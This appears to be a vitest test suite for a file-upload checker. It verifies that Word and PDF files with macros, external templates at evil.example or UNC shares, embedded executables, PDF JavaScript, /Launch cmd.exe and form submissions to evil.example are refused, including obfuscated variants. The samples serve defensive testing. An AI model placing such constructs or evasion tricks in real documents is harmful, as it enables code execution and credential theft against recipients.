import { performance } from "node:perf_hooks";
import { deflateSync, gzipSync } from "node:zlib";
import PDFDocument from "pdfkit";
import { describe, expect, test } from "vitest";
import { checkContent } from "@/lib/documents/content/content";
import { activePdf, activeWord, lockedPdf } from "@/lib/documents/limits";
import { makeDocx as makeDemoDocx } from "@/prisma/demo/papers/docx";
import { makeDocx, makeNoise, makePdf, makeZip, type ZipEntry } from "../support/document-files";

/* Files that run code, contain another file, or load something from elsewhere when staff open them. */

const word = { mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" };
const pdf = { mimeType: "application/pdf" };
const judge = (bytes: Buffer, name = "statement.docx") => checkContent(name, bytes);

const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
type Link = { type: string; target?: string; mode?: "External" | "Internal" };
const link = ({ type, target = "http://evil.example/t.dotm", mode }: Link) =>
  `<Relationship Id="rId1" Type="${office}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ""}/>`;
const linked = (...links: Link[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links.map(link).join("")}</Relationships>`;
const rels = (content: string | Buffer, name = "word/_rels/document.xml.rels"): ZipEntry => ({ name, content });
const template: Link = { type: "attachedTemplate", mode: "External" };

/** A .docx with one more line in its content types. */
function ofKinds(line: string): Buffer {
  const types = `<?xml version="1.0"?><Types>${line}<Default Extension="xml" ContentType="application/xml"/></Types>`;
  return makeZip([
    { name: "[Content_Types].xml", content: types },
    { name: "word/document.xml", content: "<w:document/>" },
  ]);
}

describe("a Word file is refused, with advice,", () => {
  const hostile: [string, () => Buffer][] = [
    ["with a template from elsewhere", () => makeDocx([rels(linked(template), "word/_rels/settings.xml.rels")])],
    ["the same in other letters", () => makeDocx([rels(linked(template), "word/_RELS/settings.xml.RELS")])],
    [
      "the same, its mode written in numbers",
      () => makeDocx([rels(linked(template).replace('"External"', '"&#69;xternal"'))]),
    ],
    ["the same in UTF-16", () => makeDocx([rels(Buffer.from(`\ufeff${linked(template)}`, "utf16le"))])],
    [
      "the same in UTF-16, the other way round",
      () => makeDocx([rels(Buffer.from(`\ufeff${linked(template)}`, "utf16le").swap16())]),
    ],
    [
      "the same in a writing that is read as another",
      () => makeDocx([rels(linked(template).replace("UTF-8", "UTF-7"))]),
    ],
    [
      "the same under a prefix",
      () => makeDocx([rels(linked(template).replaceAll("<Relationship ", "<pkg:Relationship "))]),
    ],
    [
      "the same behind a sign that ends a tag elsewhere",
      () => makeDocx([rels(linked({ ...template, target: "http://evil.example/>" }))]),
    ],
    ["the same behind a word of its own", () => makeDocx([rels(`<!DOCTYPE a [<!ENTITY x "External">]>${linked()}`)])],
    [
      "with a list that cannot be read",
      () => makeDocx([rels(linked(template).replace("TargetMode=", "x<y TargetMode="))]),
    ],
    ...["file://server/share/t.dotm", "file:////server/t.dotm", "\\\\server\\t.dotm", "//server/t.dotm"].map(
      (target): [string, () => Buffer] => [
        `with a template on another computer: ${target}`,
        () => makeDocx([rels(linked({ ...template, target }))]),
      ],
    ),
    ["with a picture from elsewhere", () => makeDocx([rels(linked({ type: "image", mode: "External" }))])],
    ["with a page that is taken in whole", () => makeDocx([rels(linked({ type: "aFChunk", target: "a.mht" }))])],
    ["with an object", () => makeDocx([rels(linked({ type: "oleObject", target: "embeddings/o.bin" }))])],
    [
      "with a file of another program",
      () => makeDocx([rels(linked({ type: "package", target: "embeddings/a.xlsx" }))]),
    ],
    ["with macros under another name", () => makeDocx([rels(linked({ type: "vbaProject", target: "foo.bin" }))])],
    [
      "with macros by their kind",
      () => ofKinds('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ],
    [
      "whose text is one with macros",
      () =>
        ofKinds(
          "<Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>",
        ),
    ],
    ["with macros", () => makeDocx([{ name: "word/vbaProject.bin" }])],
    ["with macros under other letters", () => makeDocx([{ name: "WORD/VBAPROJECT.BIN" }])],
    ["with a program", () => makeDocx([{ name: "word/media/a.exe", content: "MZ" }])],
    ["with a program under another name", () => makeDocx([{ name: "word/media/a.bin", content: "MZ\x90\0" }])],
    [
      "with an object that nothing names",
      () => makeDocx([{ name: "word/foo.bin", content: Buffer.from("d0cf11e0a1b11ae100", "hex") }]),
    ],
    ["with an archive in it", () => makeDocx([{ name: "word/embeddings/a.xlsx", content: makeZip([{ name: "a" }]) }])],
  ];
  test.each(hostile)("%s", async (_, bytes) => {
    expect(await judge(bytes())).toEqual({ refusal: activeWord });
  });
});

describe("an ordinary Word file is accepted,", () => {
  const ordinary: [string, () => Buffer][] = [
    ["as our demo writes it", () => makeDemoDocx(["Statement of purpose", "I want to study in Leeds."])],
    [
      "with links and pictures of its own",
      () =>
        makeDocx([
          rels(
            linked(
              { type: "hyperlink", target: "https://example.com/?a=1&amp;b=2", mode: "External" },
              { type: "hyperlink", target: "mailto:me@example.com", mode: "External" },
              { type: "image", target: "media/image1.png" },
              { type: "styles", target: "styles.xml", mode: "Internal" },
              { type: "fontTable", target: "fontTable.xml" },
            ),
          ),
          { name: "word/media/image1.png" },
          { name: "word/media/image2.emz", content: gzipSync("picture") },
          { name: "word/fonts/Lato-regular.ttf", content: Buffer.from("00010000", "hex") },
        ]),
    ],
    ...[
      "file:///C:\\Users\\Ali%20Raza\\AppData\\Roaming\\Microsoft\\Templates\\Modern%20resume.dotx",
      "file:///C:/Users/Ali/Templates/cv.dotx",
      "file:///Users/ali/Library/Templates/cv.dotx",
      "Normal.dotm",
      "C:\\Templates\\cv.dotx",
    ].map((target): [string, () => Buffer] => [
      `written with a template of one's own: ${target}`,
      () => makeDocx([rels(linked({ ...template, target }), "word/_rels/settings.xml.rels")]),
    ]),
    [
      "with the settings of a printer",
      () =>
        makeDocx([
          rels(linked({ type: "printerSettings", target: "printerSettings1.bin" })),
          { name: "word/printerSettings1.bin", content: "\\\0\\\0s\0e\0r\0v\0e\0r\0" },
        ]),
    ],
    ["with lists in UTF-16", () => makeDocx([rels(Buffer.from(`\ufeff${linked()}`, "utf16le"))])],
    ["without any links", () => makeDocx([rels("<Relationships/>")])],
  ];
  test.each(ordinary)("%s", async (_, bytes) => {
    expect(await judge(bytes())).toEqual(word);
  });
});

test("a directory full of opening tags is parsed in no time", async () => {
  for (const piece of ["<Relationship ", "<Relationship a", '<Relationship a="', "<Relationship a=''", "<a:", " "]) {
    const content = piece.repeat(1_000_000 / piece.length);
    const begin = performance.now();
    await judge(makeDocx([rels(content), { name: "word/media/a.png", content: Buffer.from(noise) }]));
    expect(performance.now() - begin).toBeLessThan(3000);
  }
});
const noise = Array.from({ length: 50_000 }, (_, index) => (index * 7919 * (index % 251)) % 256);

const web = "/S /URI /URI (http://evil.example/)";

/** A PDF with an additional entry in its catalog. */
function withCatalogue(more: string): Buffer {
  const text = makePdf().toString("latin1").replace("/Pages 2 0 R", `/Pages 2 0 R ${more}`);
  const place = text.lastIndexOf("xref\n0 4");
  return Buffer.from(text.replace(/startxref\n\d+/, `startxref\n${place}`), "latin1");
}

describe("a PDF is refused, with advice,", () => {
  test.each([
    ["with a script", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"],
    ["with a script, its name in numbers", "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"],
    ["with a script without blanks", "/OpenAction<</S/JavaScript/JS 5 0 R>>"],
    ["with named scripts", "/Names << /JavaScript 7 0 R >>"],
    ["with a program that it starts", "/OpenAction << /S /Launch /F (cmd.exe) >>"],
    ["with files in it", "/Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >>"],
    ["with a file in it", "/X << /Type /EmbeddedFile /Length 0 >>"],
    ["with an attachment", "/Annots [<< /Subtype /FileAttachment /FS << /F (x.exe) /EF << /F 9 0 R >> >> >>]"],
    [
      "that opens a file from elsewhere",
      "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
    ],
    ["that opens a web page by itself", "/OpenAction << /Type /Action /S /URI /URI (https://evil.example/) >>"],
    ["that opens a file in another", "/OpenAction << /S /GoToE /T << /R /C >> >>"],
    ["that sends its form", "/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>"],
    ["that sends its form, in letters and numbers", "/A<</S/Submit#46orm/F(https://evil.example/)>>"],
    ["that takes data in", "/OpenAction << /S /ImportData /F (data.fdf) >>"],
    ["with a form of XFA", "/AcroForm << /Fields [] /XFA [(template) 5 0 R (datasets) 6 0 R] >>"],
    ["with a form of XFA in one piece", "/AcroForm << /Fields [] /XFA 5 0 R >>"],
    ["with rich media", "/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent 7 0 R >>]"],
    ["with a model in space", "/Annots [<< /Type /Annot /Subtype /3D /3DD 7 0 R >>]"],
    ["that plays something", "/OpenAction << /S /Rendition /OP 0 >>"],
    ["that opens a web page after much else", `/OpenAction << /X (${"x".repeat(300)}) ${web} >>`],
    ["that opens a web page with brackets in it", "/OpenAction << /URI (http://evil.example/<) /S /URI >>"],
    ["with a page that opens a web page", `/X << /Type /Page /AA << /O << ${web} >> >> >>`],
    ["that opens a web page next", `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << ${web} >> >>`],
    ["that opens a web page in the end", `/OpenAction << /S /GoTo /Next [<< /S /GoTo /Next << ${web} >> >>] >>`],
    ["with a comment before a script", "/A << /S %x\n/JavaScript >>"],
    ["with a comment before a program", "/A << /S%%\n/Launch /F (cmd.exe) >>"],
    ["with a comment before its scripts", "/Names << /JavaScript %c\n4 0 R >>"],
    ["with a comment before XFA", "/AcroForm << /XFA %x\n4 0 R >>"],
    ["with many blanks before a script", `/A << /S${" ".repeat(101)}/JavaScript >>`],
    ["with an attachment elsewhere", "/X << /F (x.exe) /EF 5 0 R >>"],
    ["that reads a thread of another file", "/A << /S /Thread /F (\\\\evil.example\\a.pdf) >>"],
    ["that shows a page of another file", "/X << /Subtype /Form /Ref << /F (a.pdf) /Page 0 >> >>"],
    ["with a stream from the web", "/X << /Length 0 /F << /FS /URL /F (http://evil.example/) >> >>"],
    ["that turns a model", "/A << /S /GoTo3DView /V 0 >>"],
    ["with a script in an object within a text", "/X (9 0 obj \\( \\() /A << /S /JavaScript >> /Y (a)"],
    ["with a script behind a text that is none", "/X <z>> stream /OpenAction << /S /JavaScript >>"],
    ["with a script behind a word", "/OpenAction << /X obj /Y /obj /S /URI >>"],
  ])("%s", async (_, more) => {
    expect(await judge(withCatalogue(more), "passport.pdf")).toEqual({ refusal: activePdf });
  });
});

/** A PDF with more objects. */
const withObjects = (catalogue: string, ...objects: string[]) =>
  withCatalogue(`${catalogue} >>\nendobj\n${objects.join("\nendobj\n")}\nendobj\n90 0 obj\n<< /X 1`);

test.each([
  ["an action that opens a web page", "/OpenAction 40 0 R", [`40 0 obj\n<< ${web} >>`]],
  ["the same, its number behind a comment", "/OpenAction 40 0 R", [`40 %\n0 obj\n<< ${web} >>`]],
  ["the same, within a text", "/OpenAction 40 0 R", [`41 0 obj\n(\n40 0 obj\n<< ${web} >>\n)`]],
  ["what a page does", "/X << /AA 40 0 R >>", ["40 0 obj\n<< /O 41 0 R >>", `41 0 obj\n<< ${web} >>`]],
  ["the action after another", "/OpenAction << /S /GoTo /Next 40 0 R >>", [`40 0 obj\n<< ${web} >>`]],
  ["one of the actions after it", "/OpenAction << /S /GoTo /Next [40 0 R] >>", [`40 0 obj\n<< ${web} >>`]],
  ["the kind of an action", "/A << /S 40 0 R >>", ["40 0 obj /JavaScript"]],
  ["the page of another file", "/X << /Ref 40 0 R >>", ["40 0 obj\n<< /F (a.pdf) /Page 0 >>"]],
])("a PDF that only refers to %s is refused", async (_, catalogue, objects) => {
  expect(await judge(withObjects(catalogue, ...objects), "passport.pdf")).toEqual({ refusal: activePdf });
});

test("a PDF of many streams whose bytes open brackets is accepted", async () => {
  const streams = Array.from(
    { length: 60 },
    (_, at) => `${100 + at} 0 obj\n<< /Length 900 >>\nstream\n${"(x".repeat(450)}\nendstream`,
  );
  expect(await judge(withObjects("", ...streams), "passport.pdf")).toEqual(pdf);
});

test("a PDF that opens at a place by reference, and has links, is accepted", async () => {
  const [place, link] = ["40 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>", `41 0 obj\n<< ${web} >>`];
  const both = withObjects("/OpenAction 40 0 R /Annots [<< /A 41 0 R >>]", place, link);
  expect(await judge(both, "passport.pdf")).toEqual(pdf);
  const pageItself = withObjects("/OpenAction 40 0 R", `40 0 obj\n<< /Type /Page /Annots [<< /A << ${web} >> >>] >>`);
  expect(await judge(pageItself, "passport.pdf")).toEqual(pdf);
});

test.each([
  ["opens at a place", "/OpenAction [3 0 R /XYZ null null 0]"],
  ["opens at the width of a page", "/OpenAction [3 0 R /FitH null]"],
  ["teaches scripts", "/Title (how to use /S /JavaScript in PDFs \\(and /S /Launch\\))"],
  ["opens at a place, by an action", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"],
  ["has links", "/A << /S /URI /URI (https://example.com/JavaScript) >>"],
  ["has a form", "/AcroForm << /Fields [<< /FT /Tx /T (Family name) /V (Khan) >>] /NeedAppearances true >>"],
  ["clears its form", "/A << /S /ResetForm /Fields [] >>"],
  ["links to pages and mail", "/A << /S /URI /URI (mailto:me@example.com?subject=/S /Form) >>"],
  ["has fonts and parts with short names", "/Font << /EF 5 0 R /XF 6 0 R >> /K << /S /Sect /P 7 0 R >>"],
  ["speaks of forms and files", "/Title (How to use XFA [2] and /EF, SubmitForm, GoToR) /Keywords (/RichMedia, /XFA)"],
  ["speaks of scripts", "/Title (CV: HTML/CSS/JavaScript, Launch /JavaScript) /Keywords (JS/JavaScript 5 years)"],
  ["is PDF/A by its notes", "/Metadata 4 0 R /Lang (en-GB) /MarkInfo << /Marked true >>"],
])("an ordinary PDF that %s is accepted", async (_, more) => {
  expect(await judge(withCatalogue(more), "passport.pdf")).toEqual(pdf);
});

/** Objects as programs since 2003 write them: compressed, many in one stream, with their numbers and places before. */
function packed(objects: Record<number, string>, { more = "", filter = "/FlateDecode" } = {}): string {
  const texts = Object.values(objects);
  const places = texts.map((_, index) => texts.slice(0, index).join("\n").length + Math.min(index, 1));
  const head = `${Object.keys(objects)
    .map((number, index) => `${number} ${places[index]}`)
    .join(" ")}\n`;
  const bytes = deflateSync(Buffer.from(head + texts.join("\n"), "latin1")).toString("latin1");
  const entries = `/Type /ObjStm /N ${texts.length} /First ${head.length} /Filter ${filter} /Length ${bytes.length} ${more}`;
  return `80 0 obj\n<< ${entries} >>\nstream\r\n${bytes}\nendstream`;
}
const script = "<< /S /JavaScript /JS (app.alert(1)) >>";

describe("compressed objects", () => {
  test.each([
    ["a script", "", { 40: "<< /Type /Catalog >>", 41: script }],
    ["a script, the second of their objects", "", { 40: "7", 41: script, 42: "(x)" }],
    ["an attachment", "", { 40: "<< /F (a.exe) /EF << /F 41 0 R >> >>" }],
    ["what opens by itself", "/OpenAction 40 0 R", { 40: `<< ${web} >>` }],
    ["what opens by itself, from another", "", { 40: "<< /OpenAction 41 0 R >>", 41: `<< ${web} >>` }],
    ["the kind of an action", "/A << /S 40 0 R >>", { 40: "/JavaScript" }],
  ])("are refused with %s", async (_, catalogue, objects) => {
    expect(await judge(withObjects(catalogue, packed(objects)), "a.pdf")).toEqual({ refusal: activePdf });
  });

  test("are accepted as Word writes them, with bookmarks, links and structure", async () => {
    const objects = {
      40: "<< /Type /Catalog /Pages 2 0 R /Outlines 41 0 R /Lang (en-GB) /MarkInfo << /Marked true >> >>",
      41: "<< /Type /Outlines /First 42 0 R /Last 42 0 R /Count 1 >>",
      42: "<< /Title (Work /S /JavaScript) /Parent 41 0 R /Dest [3 0 R /XYZ 69 700 0] >>",
      43: `<< /Subtype /Link /Rect [0 0 9 9] /Border [0 0 0] /A << /Type /Action ${web} >> /StructParent 1 >>`,
      44: "<< /S /Link /P 40 0 R /K [<< /Type /OBJR /Obj 43 0 R /Pg 3 0 R >>] >>",
      45: "<< /Title <FEFF00430056> /Creator (Microsoft Word) >>",
    };
    for (const options of [{}, { filter: "[/FlateDecode]" }, { more: "/DecodeParms null" }]) {
      expect(await judge(withObjects("", packed(objects, options)), "cv.pdf")).toEqual(pdf);
    }
  });

  test.each([
    ["encrypted", packed({ 40: "1" }), "/X 1 >> endobj 91 0 obj << /Encrypt 50 0 R"],
    ["compressed otherwise", packed({ 40: "1" }, { filter: "/LZWDecode" }), ""],
    ["described at length", packed({ 40: "1" }, { more: `${"/X 1 ".repeat(40)}/Filter /LZWDecode` }), ""],
    ["compressed twice", packed({ 40: "1" }, { filter: "[/FlateDecode /FlateDecode]" }), ""],
    ["compressed in two ways", packed({ 40: "1" }, { more: "/Filter /LZWDecode" }), ""],
    ["described elsewhere", packed({ 40: "1" }, { more: "/DecodeParms 5 0 R" }), ""],
    ["rearranged", packed({ 40: "1" }, { more: "/DecodeParms << /Predictor 12 >>" }), ""],
    ["in another file", packed({ 40: "1" }, { more: "/F (a.bin)" }), ""],
    ["fewer than they say", packed({ 40: "1" }).replace("/N 1", "/N 2"), ""],
    ["counted twice", packed({ 40: "1" }, { more: "/N 1" }), ""],
    ["damaged", packed({ 40: "1" }).replace("\r\nx", "\r\ny"), ""],
    ["too large", packed({ 40: `(${"x".repeat(17 * 1024 * 1024)})` }), ""],
  ])("that are %s are refused, with advice", async (_, stream, more) => {
    expect(await judge(withObjects("", stream, more), "a.pdf")).toEqual({ refusal: lockedPdf });
  });
});

/** A PDF as a program writes it whole: tagged, with bookmarks, links of both kinds, and pictures as a scanner's. */
async function writtenPdf(options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const doc = new PDFDocument({
    pdfVersion: "1.7",
    lang: "en",
    ...options,
    info: { Title: "How /S /JavaScript works" },
  });
  const chunks: Buffer[] = [];
  doc.on("data", (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve) => doc.on("end", resolve));
  doc.outline.addItem("Work").addItem("Lahore");
  doc.text("My site", { link: "https://example.com/EmbeddedFiles" }).text("Next page", { goTo: "next" });
  doc.addPage().addNamedDestination("next");
  doc.image(await makeNoise("jpeg", 800), { width: 400 });
  doc.initForm();
  doc.formText("name", 20, 500, 200, 20, { value: "Khan" });
  doc.end();
  await done;
  return Buffer.concat(chunks);
}

test.each([
  ["as it is", {}],
  ["tagged", { tagged: true, displayTitle: true }],
  ["protected against changes", { ownerPassword: "brass lantern", permissions: { printing: "highResolution" } }],
] satisfies [string, PDFKit.PDFDocumentOptions][])(
  "a whole PDF with links, bookmarks, a form and a scan is accepted, %s",
  async (_, options) => {
    expect(await judge(await writtenPdf(options), "cv.pdf")).toEqual(pdf);
  },
);

test("bytes of a picture that happen to read like the begin of an object change nothing", async () => {
  const objects = (bytes: string) => [
    `40 0 obj\n<< /Length 9 >>\nstream\n${bytes}\nendstream`,
    "41 0 obj\n<< /Type /Outlines /First 42 0 R >>",
    "42 0 obj\n<< /Length 1 >>\nstream\nx\nendstream",
  ];
  expect(await judge(withObjects("", ...objects("\xd8xobj [[ \xff")), "cv.pdf")).toEqual(pdf);
  expect(await judge(withObjects("", ...objects("\xd8 obj [[ \xff")), "cv.pdf")).toEqual(pdf);
  // With a number before them, a table in the file may point at them.
  expect(await judge(withObjects("", ...objects("0 obj [[ \xff")), "cv.pdf")).toEqual({ refusal: lockedPdf });
});

test.each([
  ["a minus", "40 0- obj"],
  ["a comment", "40 0 %x y z\nobj"],
  ["a long comment", `40 0 %${"x".repeat(90)}\r\tobj`],
  ["many blanks", `40 0${" ".repeat(90)}obj`],
  ["nothing", "40 0obj"],
])("an object is found with %s before its word", async (_, head) => {
  const object = `${head}\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>`;
  expect(await judge(withObjects("", object), "a.pdf")).toEqual({ refusal: activePdf });
});

test("an encrypted PDF without compressed objects is accepted", async () => {
  expect(await judge(withObjects("", "50 0 obj\n<< /Filter /Standard /V 1 >>", "/Encrypt 50 0 R"), "a.pdf")).toEqual(
    pdf,
  );
});

test("a PDF made to keep a reader busy holds nobody else up", async () => {
  const pieces =
    "(|(obj|<<|[|<|<00|%obj\n|1 0 obj |\n1 0 obj << |/AA << /O 1 0 R |1 0 R |1%|/S |/S|/A#41|/OpenAction << | ";
  for (const piece of pieces.split("|")) {
    const file = withCatalogue(piece.repeat(5_000_000 / piece.length));
    const before = performance.eventLoopUtilization();
    await judge(file, "passport.pdf");
    expect([piece, performance.eventLoopUtilization(before).active < 200]).toEqual([piece, true]);
  }
}, 60_000);

test("with too many PDFs waiting, the next ones are asked to come again", async () => {
  const judged = await Promise.allSettled(Array.from({ length: 150 }, () => judge(makePdf(), "passport.pdf")));
  const accepted = judged.filter(({ status }) => status === "fulfilled");
  const refused = judged.flatMap((one) => (one.status === "rejected" ? [one.reason] : []));
  expect(accepted.length).toBeGreaterThanOrEqual(100);
  expect(refused.length).toBeGreaterThan(0);
  for (const reason of refused) expect(reason).toMatchObject({ code: "unavailable" });
});
